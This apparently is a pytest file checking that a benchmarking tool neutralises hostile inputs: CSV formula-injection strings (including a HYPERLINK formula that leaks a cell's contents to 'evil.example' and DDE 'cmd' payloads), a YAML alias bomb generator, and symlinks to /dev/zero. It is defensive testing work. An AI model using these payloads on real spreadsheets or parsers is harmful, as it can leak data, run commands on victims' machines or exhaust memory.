"""Hostile files (issue 12): CSV formula injection, YAML alias bombs, huge quoted CSV fields, devices, '#' in paths.

Each test drives the real loaders or the real CLI (the fake OpenAI-compatible server on 127.0.0.1
answers the models) with a file an attacker or a broken log exporter could produce.
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from pathlib import Path

import pytest

from benchrun.coverage.production import load_production
from benchrun.errors import BadInput
from benchrun.io import FORMULA_START, csv_cell_in, csv_cell_out, csv_writer, load_yaml, read_text
from benchrun.labels import TemplateRow, load_labels, write_label_template
from benchrun.spec import load_dataset
from conftest import JUDGE_PASS, RUBRIC, Project
from fakeserver import FakeServer

# ----------------------------------------------------------------------------- 12.5 CSV formula injection

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by its author",  # must come back with its quote
    "''=two quotes",
    "'just an apostrophe",  # not formula-like: written as it is
    "'",
    "plain answer = fine",
]


def _records(path: Path) -> list[list[str]]:
    """The CSV records of a file we wrote, after its leading '#' comment lines (split on \\n only)."""
    with path.open(encoding="utf-8", newline="") as fh:  # no newline translation: a bare CR stays
        lines = fh.read().split("\n")
    while lines and lines[0].startswith("#"):
        lines.pop(0)
    return list(csv.reader(io.StringIO("\n".join(lines), newline="")))


def test_cell_escaping_is_reversible_and_neutralises_every_formula_start() -> None:
    for text in [*PAYLOADS, "", "=", "''", "'''+", "a'=b", "\t", "\r\n=x"]:
        cell = csv_cell_out(text)
        assert not cell.startswith(FORMULA_START), repr(cell)  # a spreadsheet reads none as a formula
        assert csv_cell_in(cell) == text, repr(text)  # and we get the exact text back
    assert csv_cell_out("'just an apostrophe") == "'just an apostrophe"
    assert csv_cell_out("=1") == "'=1" and csv_cell_out("'=1") == "''=1"
    # a spreadsheet that saved the cell without our quote still gives the original text
    assert csv_cell_in("=1") == "=1"


def test_template_round_trip_through_the_loader(tmp_path: Path) -> None:
    rows = [TemplateRow(item_id=f"item-{i:03d}", case_id=p if i % 2 else f"case-{i}", input=p, ideal=p, response=p)
            for i, p in enumerate(PAYLOADS)]
    path = tmp_path / "t.csv"
    write_label_template(path, rows)
    header, *recs = _records(path)
    cells = [c for rec in recs for c in rec]
    assert len(recs) == len(rows) and not [c for c in cells if c.startswith(FORMULA_START)]
    # fill in the human columns and load it as labels: every text comes back exactly
    for r in recs:  # formula-like human cells, written the way `labels annotate` writes them
        r[5:10] = [csv_cell_out(c) for c in ("4", "yes", "none", "=ada", "-no note")]
    buf = io.StringIO()
    w = csv_writer(buf)
    w.writerow(header)
    w.writerows(recs)
    labelled = tmp_path / "l.csv"
    labelled.write_bytes(buf.getvalue().encode())
    ls = load_labels(labelled, RUBRIC["failure_modes"])
    assert [(lab.case_id, lab.response, lab.annotator, lab.note) for lab in ls.labels] == [
        (r.case_id.strip(), r.response, "=ada", "-no note") for r in rows]  # ids are read stripped


def _hostile_project(project: Project, server: FakeServer) -> str:
    cases = [{"id": f"case-{i:02d}", "input": p, "ideal": p, "category": "csv", "severity": "low",
              "provenance": {"source": "hand", "added": "2026-10-01", "author": "tests"}}
             for i, p in enumerate(PAYLOADS)]
    server.set_config({"rules": [{"model": "judge", "reply": JUDGE_PASS}, {"model": "echo", "reply": "{last_user}"}],
                       "default_reply": "OK"})
    project.write_dataset(cases)
    project.write_rubric()
    spec = project.write_spec(candidates=[{"model": "openai/echo", "alias": "echo", "api_base": project.url}])
    r, summary = project.cli_json("run", str(spec))
    assert r.returncode == 0, r.stderr
    return str(summary["conditions"]["run_id"])


def test_labels_export_neutralises_formulas_and_import_restores_them(project: Project, server: FakeServer) -> None:
    run_id = _hostile_project(project, server)
    con = sqlite3.connect(project.ledger)
    answers = {row[0] for row in con.execute("SELECT response_text FROM result WHERE run_id = ?", (run_id,))}
    con.close()
    assert "=cmd|' /C calc'!A0" in answers and "'=already quoted by its author" in answers  # the echo worked
    tpl = project.root / "t.csv"
    r, info = project.cli_json("labels", "export", run_id, "--sample", str(len(PAYLOADS)), "--out", str(tpl))
    assert r.returncode == 0, r.stderr
    assert info["written"] == len(PAYLOADS)
    header, *body = _records(tpl)
    cells = [c for rec in body for c in rec]
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell a spreadsheet would run as a formula"
    col = header.index("response")
    assert "'=cmd|' /C calc'!A0" in [rec[col] for rec in body]
    assert "''=already quoted by its author" in [rec[col] for rec in body]
    # fill it in (as a person would, keeping the cells as they are) and import it
    for rec in body:
        rec[header.index("human_score")], rec[header.index("human_pass")] = "5", "yes"
        rec[header.index("annotator")] = "ada"
    buf = io.StringIO()
    csv_writer(buf).writerows([header, *body])
    tpl.write_bytes(buf.getvalue().encode())
    ls = load_labels(tpl, RUBRIC["failure_modes"])
    assert {lab.response for lab in ls.labels} == answers  # exactly the recorded answers, quotes undone
    r, imp = project.cli_json("labels", "import", str(tpl), "--run", run_id)
    assert r.returncode == 0, r.stderr
    assert imp["labels"] == len(PAYLOADS)


def test_annotate_shows_the_original_and_keeps_the_file_neutralised(
    project: Project, server: FakeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id = _hostile_project(project, server)
    tpl = project.root / "t.csv"
    project.cli("labels", "export", run_id, "--sample", str(len(PAYLOADS)), "--out", str(tpl))
    monkeypatch.setattr("sys.stdin", io.StringIO("4\ny\n\n=note\n" * len(PAYLOADS)))
    r = project.cli("labels", "annotate", str(tpl), "--run", run_id, "--annotator", "@ada")
    assert r.returncode == 0, r.stderr
    assert f"labelled {len(PAYLOADS)} item(s)" in r.stdout
    assert "RESPONSE:\n=cmd|' /C calc'!A0\n" in r.stdout  # shown as the model wrote it
    assert "RESPONSE:\n'=cmd" not in r.stdout and "RESPONSE:\n'''=two" not in r.stdout
    cells = [c for rec in _records(tpl) for c in rec]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'@ada" in cells and "'=note" in cells
    ls = load_labels(tpl, RUBRIC["failure_modes"])
    assert {lab.annotator for lab in ls.labels} == {"@ada"} and {lab.note for lab in ls.labels} == {"=note"}


def test_recorded_pair_verdicts_are_neutralised(tmp_path: Path) -> None:
    from benchrun.analysis.bias import load_pair_verdicts
    from benchrun.judge_trust import _write_pair_verdicts

    path = tmp_path / "v.csv"
    _write_pair_verdicts(path, [{"pair_id": "=cmd|' /C calc'!A0", "case_id": "@x", "verdict_ab": "A>B",
                                 "verdict_ba_raw": "B>A"}])
    cells = [c for rec in _records(path) for c in rec]
    assert "'=cmd|' /C calc'!A0" in cells and "'@x" in cells
    assert [p.pair_id for p in load_pair_verdicts(path)] == ["=cmd|' /C calc'!A0"]


# ----------------------------------------------------------------------------- 12.7 YAML alias bomb


def _bomb(levels: int = 8) -> str:
    lines = ["name: bomb", 'version: "1"', "metadata:", '  l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels + 1):
        lines.append(f"  l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 10) + "]")
    lines += ["cases:", "  - id: c1", "    input: hi", "    ideal: hello"]
    return "\n".join(lines) + "\n"


def test_alias_bomb_dataset_is_refused_with_file_and_line(project: Project) -> None:
    text = _bomb()
    assert len(text.encode()) < 800  # the 700-byte, 8-level, 10x bomb from the issue (10^9 values expanded)
    bomb = project.root / "datasets" / "bomb.yaml"
    bomb.write_text(text)
    with pytest.raises(BadInput) as ei:
        load_dataset(bomb)
    msg = str(ei.value)
    assert "bomb.yaml" in msg and "alias" in msg
    assert ei.value.exit_code == 2
    # the real CLI: one line on stderr naming the file and the line of the alias over the budget
    r = project.cli("dataset", "validate", str(bomb))
    assert r.returncode == 2, (r.returncode, r.stderr)
    assert r.stdout == "" and r.stderr.strip().count("\n") == 0, r.stderr
    line = int(r.stderr.split("line ")[1].split()[0].rstrip(":,"))
    assert 5 <= line <= 12 and text.splitlines()[line - 1].lstrip().startswith(f"l{line - 4}: &l{line - 4} [*l")
    assert "alias" in r.stderr and "Traceback" not in r.stderr


def test_small_aliases_and_merge_keys_still_work(tmp_path: Path) -> None:
    p = tmp_path / "spec.yaml"
    p.write_text("base: &b {temperature: 0, max_tokens: 64}\na: {<<: *b, seed: 1}\nb: *b\nlist: [*b, *b]\n")
    data, _ = load_yaml(p)
    assert data["a"] == {"temperature": 0, "max_tokens": 64, "seed": 1} and data["list"] == [data["b"]] * 2


def test_recursive_alias_is_refused(tmp_path: Path) -> None:
    p = tmp_path / "rec.yaml"
    p.write_text("a: 1\nloop: &x\n  - 1\n  - *x\n")
    with pytest.raises(BadInput, match=r"rec\.yaml.*line 2.*contains itself"):
        load_yaml(p)


# ----------------------------------------------------------------------------- 12.8 large quoted CSV fields


def test_one_large_quoted_field_is_one_production_row(tmp_path: Path) -> None:
    big = "\n".join(f"line {i:02d} " + "x" * 100_000 for i in range(60))  # 60 lines x 100 KB in one field
    p = tmp_path / "prod.csv"
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["text", "timestamp"])
    w.writerow(["card lost", "2026-01-01T00:00:00Z"])
    w.writerow([big, "2026-01-01T00:01:00Z"])
    w.writerow(["pin blocked", "2026-01-01T00:02:00Z"])
    w.writerow(["where is my refund", "2026-01-01T00:03:00Z"])
    p.write_text(buf.getvalue(), encoding="utf-8")
    s = load_production(p)
    assert s.rows_read == 4  # four records, however many physical lines the second one spans
    assert s.skipped == {}
    assert s.texts == ["card lost", big, "pin blocked", "where is my refund"]
    assert csv.field_size_limit() == 131072  # the process-wide limit is restored afterwards


def test_one_large_quoted_field_in_a_dataset_csv(tmp_path: Path) -> None:
    big = "\n".join("y" * 100_000 for _ in range(60))
    p = tmp_path / "ds.csv"
    buf = io.StringIO()
    buf.write("# name: big\n# version: 1\n")
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["id", "input", "ideal"])
    w.writerow(["c1", big, "ok"])
    w.writerow(["c2", "short", "ok"])
    p.write_text(buf.getvalue(), encoding="utf-8")
    ds = load_dataset(p)
    assert [c.id for c in ds.cases] == ["c1", "c2"] and ds.cases[0].input == big


# ----------------------------------------------------------------------------- low: devices and '#' in paths


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="needs /dev/zero")
def test_symlink_to_dev_zero_is_a_one_line_error(project: Project) -> None:
    link = project.root / "prod.jsonl"
    link.symlink_to("/dev/zero")
    with pytest.raises(BadInput, match="not a regular file"):
        read_text(link)
    project.write_dataset()
    r = project.cli("coverage", "--production", "prod.jsonl", "--dataset", "datasets/mini.yaml")
    assert r.returncode == 2, (r.returncode, r.stderr[-500:])
    assert r.stderr.strip().count("\n") == 0 and "prod.jsonl" in r.stderr and "regular file" in r.stderr
    ds_link = project.root / "datasets" / "zero.yaml"
    ds_link.symlink_to("/dev/zero")
    r = project.cli("dataset", "validate", str(ds_link))
    assert r.returncode == 2 and "zero.yaml" in r.stderr and "MemoryError" not in r.stderr


def _queries_db(path: Path) -> None:
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE queries (text TEXT)")
    con.executemany("INSERT INTO queries VALUES (?)", [("card lost",), ("pin blocked",), ("refund",)])
    con.commit()
    con.close()


@pytest.mark.parametrize("name", ["logs#1.db", "logs?x=1.db", "logs%23.db", "a#b?c.db"])
def test_hash_in_a_sqlite_production_path(tmp_path: Path, name: str) -> None:
    db = tmp_path / name
    _queries_db(db)
    before = sorted(x.name for x in tmp_path.iterdir())
    s = load_production(db, table="queries")
    assert s.texts == ["card lost", "pin blocked", "refund"]
    if "?" not in name:  # in a sqlite: URL '?' starts the query; '#' is part of the file name
        s2 = load_production(f"sqlite:///{db}?table=queries")
        assert s2.texts == s.texts
    assert sorted(x.name for x in tmp_path.iterdir()) == before  # no truncated-name file was created


def test_missing_sqlite_file_with_hash_creates_nothing(tmp_path: Path) -> None:
    with pytest.raises(BadInput):
        load_production(tmp_path / "gone#x.db", table="queries")
    assert list(tmp_path.iterdir()) == []
